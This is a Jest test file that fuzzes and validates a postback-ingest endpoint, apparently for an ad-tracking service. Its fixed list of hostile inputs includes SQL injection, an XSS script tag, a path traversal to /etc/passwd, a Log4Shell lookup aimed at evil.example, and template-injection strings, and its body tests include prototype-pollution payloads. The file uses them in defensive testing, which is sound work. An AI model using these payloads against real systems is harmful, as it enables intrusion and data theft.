import { newId } from '@tracklane/contracts';
import { PostbackKit, startPostbackKit } from './postback-test-kit';

/** A small deterministic PRNG, so a failing fuzz case can be reproduced. */
function prng(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
    return state / 0x7fffffff;
  };
}

const NASTY = [
  "' OR '1'='1",
  "1; DROP TABLE postback_receipts; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00',
  '\u0000',
  '\u001b[2J',
  '\ud83d',
  '🎉'.repeat(600),
  'x'.repeat(3000),
  '-0',
  '1e309',
  'NaN',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  ' ',
  '',
];

describe('postback-ingest refuses bad input with a 4xx that names the problem', () => {
  let kit: PostbackKit;
  let accepted = 0;

  beforeAll(async () => {
    kit = await startPostbackKit([{ id: 1, token: 'tok-plain' }]);
  });
  afterAll(() => kit?.close());

  async function refusal(response: Response): Promise<{ status: number; body: Record<string, unknown> }> {
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  }

  it.each([
    [{ amount: '-5' }, 'amount', 'nonNegative'],
    [{ amount: '5.12345' }, 'amount', 'maxDecimalPlaces'],
    [{ amount: 'ten' }, 'amount', 'isDecimal'],
    [{ sale_amount: '1,000.00' }, 'amount', 'isDecimal'],
    [{ currency: 'XYZ' }, 'currency', 'isISO4217CurrencyCode'],
    [{ currency: 'EURO' }, 'currency', 'isISO4217CurrencyCode'],
    [{ status: 'paid' }, 'status', 'isIn'],
    [{ order_id: 'o'.repeat(256) }, 'order_id', 'maxLength'],
    [{ goal: 'g'.repeat(129) }, 'goal', 'maxLength'],
  ])('%j → 400 naming %s and the rule %s', async (params, field, rule) => {
    const { status, body } = await refusal(await kit.get('/postback', { token: 'tok-plain', click_id: newId(), ...params }));
    expect(status).toBe(400);
    expect(body).toMatchObject({ ok: false, error: 'invalid_parameter', field, rule });
    expect(body.reason).toEqual(expect.stringContaining(field));
    expect(body).toMatchObject({ type: 'urn:tracklane:problem:invalid-request', status: 400, detail: body.reason, errors: [{ field, rule }] });
  });

  it('answers application/json, or application/problem+json to a client that asks for it, with the same body', async () => {
    const plain = await kit.get('/postback', { token: 'tok-plain', click_id: newId(), amount: '-5' });
    expect(plain.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const asked = await kit.get('/postback', { token: 'tok-plain', click_id: newId(), amount: '-5' }, { accept: 'application/problem+json' });
    expect(asked.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
    expect(await asked.json()).toEqual(await plain.json());
  });

  it('names the click id when it is missing or not ours, under the name it was sent', async () => {
    expect(await refusal(await kit.get('/postback', { token: 'tok-plain' }))).toMatchObject({
      status: 400,
      body: { field: 'click_id', rule: 'isDefined' },
    });
    expect(await refusal(await kit.get('/postback', { token: 'tok-plain', subid: '12345' }))).toMatchObject({
      status: 400,
      body: { field: 'click_id', param: 'subid', rule: 'isClickId' },
    });
  });

  it('answers malformed, oversized and unsupported bodies with a JSON reason', async () => {
    const post = (body: string | Buffer, type: string) => kit.post('/postback?token=tok-plain', body as string, type);
    const cases: [Promise<Response>, number, string][] = [
      [post('{"click_id": ', 'application/json'), 400, 'invalid_body'],
      [post('', 'application/json'), 400, 'invalid_body'],
      [post('[1,2,3]', 'application/json'), 400, 'invalid_body'],
      [post('"just a string"', 'application/json'), 400, 'invalid_body'],
      [post('{"__proto__": {"admin": true}}', 'application/json'), 400, 'invalid_body'],
      [post('{"constructor": {"prototype": {"admin": true}}}', 'application/json'), 400, 'invalid_body'],
      [post(JSON.stringify({ click_id: newId(), amount: { $gt: 0 } }), 'application/json'), 400, 'invalid_parameter'],
      [post(JSON.stringify({ click_id: [newId(), newId()] }), 'application/json'), 400, 'invalid_parameter'],
      [post(`{"click_id": "${'x'.repeat(200_000)}"}`, 'application/json'), 413, 'body_too_large'],
      [post('a=1&'.repeat(40_000), 'application/x-www-form-urlencoded'), 413, 'body_too_large'],
      [post('click_id=a&click_id=b', 'application/x-www-form-urlencoded'), 400, 'invalid_parameter'],
      [post('<postback/>', 'application/xml'), 415, 'unsupported_media_type'],
      [post(Buffer.from([0xff, 0xfe, 0x00, 0x01]), 'application/octet-stream'), 415, 'unsupported_media_type'],
    ];
    for (const [response, status, error] of cases) {
      const answer = await refusal(await response);
      expect(answer).toMatchObject({ status, body: { ok: false, error, status, detail: answer.body.reason } });
      expect(typeof answer.body.reason).toBe('string');
      expect(answer.body.type).toMatch(/^(urn:tracklane:problem:invalid-request|about:blank)$/);
    }
  });

  it('refuses a huge query string with a 4xx', async () => {
    const response = await fetch(kit.url('/postback', { token: 'tok-plain', click_id: newId(), junk: 'j'.repeat(70_000) }));
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
  });

  it('never answers injection-shaped or random input with a 5xx', async () => {
    const random = prng(20261128);
    const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
    const names = ['click_id', 'cid', 'amount', 'currency', 'status', 'goal', 'order_id', 'adv_sub1', 'note', '__proto__', 'a[b]', 'x'.repeat(200)];
    const statuses = new Map<number, number>();
    for (let round = 0; round < 300; round++) {
      const params = new URLSearchParams({ token: 'tok-plain' });
      if (random() < 0.7) params.set('click_id', random() < 0.5 ? newId() : pick(NASTY));
      const count = Math.floor(random() * 5);
      for (let index = 0; index < count; index++) params.append(pick(names), pick(NASTY));
      const asJson = random() < 0.3;
      const response = asJson
        ? await kit.post('/postback', JSON.stringify(Object.fromEntries(params)), 'application/json')
        : await fetch(`${kit.service.url}/postback?${params}`);
      await response.arrayBuffer();
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      if (response.status === 200 && response.headers.get('idempotent-replayed') !== 'true') accepted++;
      expect({ round, params: params.toString().slice(0, 300), ok: response.status === 200 || (response.status >= 400 && response.status < 500) }).toEqual({
        round,
        params: expect.any(String),
        ok: true,
      });
    }
    expect(statuses.get(400)).toBeGreaterThan(50);
    expect(statuses.get(200)).toBeGreaterThan(10);
  });

  it('stays healthy, with nothing published but what it accepted', async () => {
    expect((await fetch(`${kit.service.url}/readyz`)).status).toBe(200);
    expect(await kit.events(accepted)).toHaveLength(accepted);
  });
});
